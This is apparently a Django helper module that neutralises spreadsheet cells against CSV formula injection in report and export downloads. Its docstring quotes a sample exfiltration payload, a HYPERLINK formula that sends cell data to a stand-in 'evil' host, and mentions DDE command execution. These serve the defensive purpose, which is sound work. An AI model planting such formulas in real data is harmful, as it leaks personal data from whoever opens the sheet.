"""One cell-neutralising function for every CSV and XLSX writer (reports, exports).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or
carriage return, again) as a formula: `=HYPERLINK("http://evil/?"&B2, "klik")` in a
reporter's name would send the sheet's personal data away, `=cmd|...` runs DDE. Such a text is
written with a leading apostrophe, so it is shown, never evaluated (OWASP, CSV injection).
Numbers, dates and other values pass unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TypeVar

from django.http import HttpResponse

T = TypeVar("T")

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(value: T) -> T | str:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(values: list | tuple) -> list:
    return [neutralise_cell(v) for v in values]


def csv_attachment(filename: str, rows: Iterable[list | tuple]) -> HttpResponse:
    """A CSV download of `rows`, every cell neutralised: the one way a view answers with CSV."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    for row in rows:
        writer.writerow(neutralise_row(row))
    return response
